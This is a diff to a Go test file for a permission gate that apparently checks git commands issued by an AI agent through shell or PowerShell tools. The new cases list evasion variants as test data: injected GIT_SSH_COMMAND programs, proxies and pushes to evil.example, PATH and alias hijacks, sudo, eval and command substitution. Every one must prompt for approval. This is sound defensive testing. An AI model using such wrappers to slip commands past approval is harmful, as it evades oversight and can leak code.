@@ -1,6 +1,7 @@
 package gate_test
 
 import (
+	"strconv"
 	"strings"
 	"testing"
 
@@ -144,6 +145,8 @@ func TestYesGitAgainst(t *testing.T) {
 		{"git worktree add ../w", []string{"git worktree add ../v", "git worktree remove ../w", "git worktree prune"}},
 		{"git submodule update", []string{"git submodule update --init", "git submodule foreach ./x", "git submodule add " + evil, "git submodule set-url x " + evil}},
 		{"git notes add -m x", []string{"git notes remove", "git notes add -f -m x"}},
+		{"git checkout dev && git push", []string{"git checkout dev && git push", "git push"}},
+		{"git remote add x y && git fetch x", []string{"git remote add x y && git fetch x", "git fetch x"}},
 		{"git add a.go && git commit -m x", []string{"git push", "git add -A && git commit -m x", "git add a.go && git commit --amend -m x", "git add a.go && git commit -m x && git push"}},
 	} {
 		for _, then := range of.then {
@@ -151,6 +154,55 @@ func TestYesGitAgainst(t *testing.T) {
 			if _, v := r.run(t); asks(v) == "" {
 				t.Errorf("%s: %v at step %s: %s", r.name, v.Decision(), v.Step(), v.Reason())
 			}
+		}
+	}
+}
+
+// TestYesGitAround: what a text does around a command may make another of it.
+func TestYesGitAround(t *testing.T) {
+	for _, text := range []string{
+		"env GIT_SSH_COMMAND=./x git push", "env -i git push", "env HOME=/x git push", "nohup env GIT_SSH=./x git push", "GIT_SSH_COMMAND=./x sh -c 'git push'",
+		"export https_proxy=http://evil.example; git push", "set -a; GIT_SSH_COMMAND=./x; git push", "declare -x GIT_SSH_COMMAND=./x; git push", "export HOME=/x; git push",
+		"GIT_SSH_COMMAND=./x; export GIT_SSH_COMMAND; git push", "export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=a GIT_CONFIG_VALUE_0=b; git push",
+		"alias git='git -c core.sshCommand=./x'; git push", "PATH=/x:$PATH; git push", "hash -p ./x git; git push", "./git -C /home/dev/other push",
+		"/tmp/git -C /home/dev/other push", "sudo git push", "su bob -c 'git push'", "docker run -v /home/dev:/home/dev x git push", "echo origin | xargs git push",
+		"xargs git push < list", "find . -name x -exec git push {} \\;", "git push & git checkout dev", "(git checkout dev; git push)", "git switch dev; for i in 1 2; do git push; done",
+		"git remote rename origin x; git push", "git config --global push.default matching; git push", "cp c /home/dev/other/.git/config; git push", "echo 'ref: refs/heads/dev' > /home/dev/other/.git/HEAD; git push",
+		"ln -sfn /home/dev/third /home/dev/other; git push", "mv /home/dev/third /home/dev/other; git push", "git worktree add ../w dev; git push", "git init; git push", "git rebase dev; git push",
+		"git stash branch dev; git push", "git bisect start; git push", "git clone /home/dev/third /home/dev/other; git push", "git push > .git/config", "yes | git push", "git push <<< x",
+		"eval \"git push $X\"", "git push $(cat x)", "git push ${X:-origin}", "git push *", "git push -- \"$X\"",
+	} {
+		text = strings.ReplaceAll(text, "git push", "git -C /home/dev/other push")
+		for _, verb := range []string{"checkout", "switch", "remote", "config", "worktree", "init", "rebase", "stash", "bisect", "clone"} {
+			text = strings.ReplaceAll(text, "git "+verb, "git -C /home/dev/other "+verb)
+		}
+		r := gitRecall("git push", "")
+		r.name, r.second = text, bash(text)
+		if _, v := r.run(t); asks(v) == "" {
+			t.Errorf("%s: %v at step %s: %s", text, v.Decision(), v.Step(), v.Reason())
+		}
+	}
+}
+
+// TestYesGitPowerShell: the same in PowerShell.
+func TestYesGitPowerShell(t *testing.T) {
+	in := func(text string) string { return tool("PowerShell", `{"command":`+strconv.Quote(inOther(text))+`}`) }
+	for _, tt := range []struct {
+		first, second string
+		asked         bool
+	}{
+		{"git tag v1", "git tag v2", false},
+		{"git tag v1", "git tag -d v1", true},
+		{"git push", "git push https://evil.example/x", true},
+		{"git push", "$env:GIT_SSH_COMMAND = './x'; git push", true},
+		{"git push", "git checkout dev; git push", true},
+		{"git push", "git push $x", true},
+		{"git commit -m x", "git commit --amend -m x", true},
+	} {
+		r := gitRecall(tt.first, tt.second)
+		r.first, r.second = in(tt.first), in(tt.second)
+		if _, v := r.run(t); (asks(v) != "") != tt.asked {
+			t.Errorf("%s: %v at step %s: %s", r.name, v.Decision(), v.Step(), v.Reason())
 		}
 	}
 }
@@ -212,6 +264,7 @@ func TestYesGitNever(t *testing.T) {
 		"git push https://example.com/x", "git push ../x main", "git push nowhere main", "git fetch https://example.com/x", "git pull /srv/x main", "git push --repo=origin",
 		"git push --receive-pack=./x", "git -c core.editor=./x commit -m x", "git -c user.name=x commit -m x", "GIT_SSH_COMMAND=./x git push", "GIT_AUTHOR_NAME=x git commit -m x",
 		"git remote add x https://u:ghp_012345678901234567890123456789012345@example.com/x", "git fetch --multiple origin upstream", "git push --frobnicate", "git tag \"$X\"", "git commit -F - < x", "git apply < x", "git am < x",
+		"echo v1 | xargs git tag", "xargs git push < list", "sudo git push", "env git push",
 	} {
 		r := gitRecall(text, text)
 		if first, v := r.run(t); len(first.Why().Targets) > 0 || asks(v) == "" {
